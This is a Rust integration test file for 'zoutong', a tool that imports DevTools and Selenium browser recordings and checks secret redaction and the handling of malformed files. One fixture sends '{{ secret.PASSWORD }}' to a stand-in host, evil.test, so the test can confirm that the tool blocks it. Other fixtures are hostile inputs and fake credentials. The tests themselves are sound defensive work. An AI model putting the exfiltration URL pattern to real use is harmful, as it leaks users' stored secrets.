//! `zoutong import` and `export` as a person uses them.

use std::path::{Path, PathBuf};

use assert_cmd::Command;

fn sample(name: &str) -> String {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/recordings");
    folder.join(name).display().to_string()
}

fn zoutong(arguments: &[&str]) -> (i32, String, String) {
    let output = Command::cargo_bin("zoutong").unwrap().args(arguments).output().unwrap();
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    (output.status.code().unwrap(), text(&output.stdout), text(&output.stderr))
}

fn written(folder: &Path, content: &str) -> PathBuf {
    let file = folder.join("recording.json");
    std::fs::write(&file, content).unwrap();
    file
}

#[test]
fn a_recording_is_planned_then_written_once() {
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().join("场景");
    let (recording, out) = (sample("devtools/login.json"), out.to_str().unwrap().to_owned());
    let (code, said, _) = zoutong(&["import", &recording, "-o", &out, "--plan"]);
    assert_eq!(code, 0, "{said}");
    assert!(said.contains("将写") && !Path::new(&out).exists(), "{said}");
    assert_eq!(zoutong(&["import", &recording, "-o", &out]).0, 0);
    let (code, _, err) = zoutong(&["import", &recording, "-o", &out]);
    assert!(code == 2 && err.contains("没有覆盖"), "{err}");
    assert_eq!(zoutong(&["import", &recording, "-o", &out, "--force"]).0, 0);
    let (code, json, _) = zoutong(&["export", &format!("{out}/login.yaml")]);
    assert_eq!(code, 0);
    let value = |text: &str| serde_json::from_str::<serde_json::Value>(text).unwrap();
    assert_eq!(value(&json), value(&std::fs::read_to_string(recording).unwrap()));
}

#[test]
fn secrets_are_named_and_never_shown() {
    let folder = tempfile::tempdir().unwrap();
    let json = r##"{"title":"登录","steps":[
        {"type":"navigate","url":"https://portal.test/?token=t0ken-value"},
        {"type":"change","selectors":[["#password"]],"value":"hun"},
        {"type":"change","selectors":[["#password"]],"value":"hunter22"},
        {"type":"change","selectors":[["#id"]],"value":"11010519491231002X"},
        {"type":"waitForExpression","expression":"x === 'hunter22' && '13812341234'"}]}"##;
    let file = written(folder.path(), json);
    let out = folder.path().to_str().unwrap();
    let (code, said, err) = zoutong(&["import", file.to_str().unwrap(), "-o", out]);
    assert_eq!(code, 0, "{err}");
    let yaml = std::fs::read_to_string(folder.path().join("recording.yaml")).unwrap();
    for value in ["t0ken-value", "hun", "11010519491231002X", "13812341234"] {
        assert!(!said.contains(value) && !yaml.contains(value), "{value}\n{said}\n{yaml}");
    }
    for name in ["PASSWORD", "ID_NUMBER", "PHONE", "TOKEN"] {
        assert!(
            said.contains(&format!("secret set {name}")) && yaml.contains(&format!("secret.{name} ")),
            "{name}"
        );
    }
}

#[test]
fn a_recording_cannot_ask_for_secrets() {
    let folder = tempfile::tempdir().unwrap();
    let json =
        r#"{"title":"t","steps":[{"type":"navigate","url":"https://evil.test/?a={{ secret.PASSWORD }}"}]}"#;
    let file = written(folder.path(), json);
    assert_eq!(zoutong(&["import", file.to_str().unwrap(), "-o", folder.path().to_str().unwrap()]).0, 0);
    let yaml = std::fs::read_to_string(folder.path().join("recording.yaml")).unwrap();
    assert!(!yaml.contains("{{ secret"), "{yaml}");
}

#[test]
fn strictly_anything_wrong_refuses_the_file_with_its_place() {
    for (name, place) in [("without-offset", "1:26"), ("refused-address", "第 1 步"), ("old-form", "steps")]
    {
        let recording = sample(&format!("devtools/{name}.json"));
        let (code, said, err) = zoutong(&["import", &recording, "--plan", "--strict"]);
        assert!(code == 2 && err.contains(place), "{name} {code}: {said}{err}");
        let (code, said, err) = zoutong(&["import", &recording, "--plan"]);
        assert_eq!(code, 0, "{name}: {said}{err}");
    }
}

#[test]
fn hostile_files_are_refused_quickly() {
    let folder = tempfile::tempdir().unwrap();
    let deep = "[".repeat(100_000);
    let long = format!(
        r#"{{"title":"\u001b[2J","steps":[{{"type":"hover","selectors":["{}"]}}]}}"#,
        "a".repeat(100_000)
    );
    for (content, expected) in
        [(deep.as_str(), 2), ("", 2), ("{", 2), ("{\"steps\":1}", 2), ("\u{0}", 2), (long.as_str(), 0)]
    {
        let file = written(folder.path(), content);
        let (code, said, err) = zoutong(&["import", file.to_str().unwrap(), "--plan"]);
        assert_eq!(code, expected, "{said}{err}");
        assert!(!said.contains('\u{1b}') && !err.contains('\u{1b}'));
    }
    let large = folder.path().join("large.json");
    std::fs::File::create(&large).unwrap().set_len(60 * 1024 * 1024).unwrap();
    let (code, _, err) = zoutong(&["import", large.to_str().unwrap(), "--plan"]);
    assert!(code == 2 && err.contains("50 MB"), "{err}");
}

/// Everything that an import writes and says, one after the other.
fn imported(recording: &str) -> String {
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().to_str().unwrap();
    let (code, said, err) = zoutong(&["import", &sample(recording), "-o", out]);
    assert_eq!(code, 0, "{said}{err}");
    let mut files: Vec<PathBuf> =
        std::fs::read_dir(folder.path()).unwrap().map(|entry| entry.unwrap().path()).collect();
    files.sort();
    let mut all = said.replace(out, "").replace(&sample(""), "");
    for file in files {
        all.push_str("\n--- ");
        all.push_str(file.file_name().unwrap().to_str().unwrap());
        all.push('\n');
        all.push_str(&std::fs::read_to_string(&file).unwrap());
    }
    all
}

#[test]
fn every_command_of_selenium_ide_comes_in() {
    insta::assert_snapshot!("selenium-every-command", imported("side/every-command.side"));
}

#[test]
fn old_selenium_projects_are_brought_up_to_date() {
    insta::assert_snapshot!("selenium-old-project", imported("side/old.side"));
}

#[test]
fn selenium_tables_come_in_with_their_suite() {
    insta::assert_snapshot!("selenium-tables", imported("selenese/suite.html"));
}

#[test]
fn every_step_of_devtools_comes_in() {
    insta::assert_snapshot!("devtools-every-step", imported("devtools/every-step.json"));
}

#[test]
fn strictly_a_project_has_nothing_wrong() {
    for name in ["side/every-command.side", "selenese/suite.html"] {
        let (code, _, err) = zoutong(&["import", &sample(name), "--plan", "--strict"]);
        assert!(code == 2 && err.contains("错误"), "{err}");
    }
    let (code, said, _) =
        zoutong(&["import", &sample("side/old.side"), "--plan", "--strict", "--from", "side"]);
    assert_eq!(code, 0, "{said}");
}

#[test]
fn what_is_imported_is_right_in_the_scenario_language() {
    let folder = tempfile::tempdir().unwrap();
    let portal = "portal: 试验门户\nhosts: [portal.test, other.test]\nchannels:\n  pc:\n    name: PC端\n    home: http://portal.test/\n";
    std::fs::write(folder.path().join("portal.yaml"), portal).unwrap();
    let out = folder.path().to_str().unwrap();
    for name in [
        "devtools/every-step.json",
        "devtools/login.json",
        "devtools/popup.json",
        "devtools/old-form.json",
        "devtools/without-offset.json",
        "devtools/refused-address.json",
        "side/every-command.side",
        "side/old.side",
        "selenese/guide.html",
    ] {
        let (code, said, err) = zoutong(&["import", &sample(name), "-o", out, "--force"]);
        assert_eq!(code, 0, "{name}: {said}{err}");
    }
    let (code, said, err) = zoutong(&["lint", out]);
    assert_eq!(code, 0, "{said}{err}");
}
